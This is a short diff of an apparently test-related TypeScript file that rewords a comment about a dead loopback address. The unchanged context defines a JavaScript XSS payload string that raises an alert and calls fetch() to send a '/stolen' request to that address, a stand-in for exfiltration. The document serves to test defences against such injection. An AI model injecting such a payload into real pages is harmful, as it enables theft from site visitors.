@@ -1,7 +1,7 @@
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 
-/** Where the attack sends whoever falls for it. Nobody listens there. */
+/** Where a successful attack would send requests. No server listens there. */
 export const ELSEWHERE = 'http://127.0.0.1:9'
 
 const RUN = `top.attacked=1;alert(document.domain);fetch('${ELSEWHERE}/stolen')`
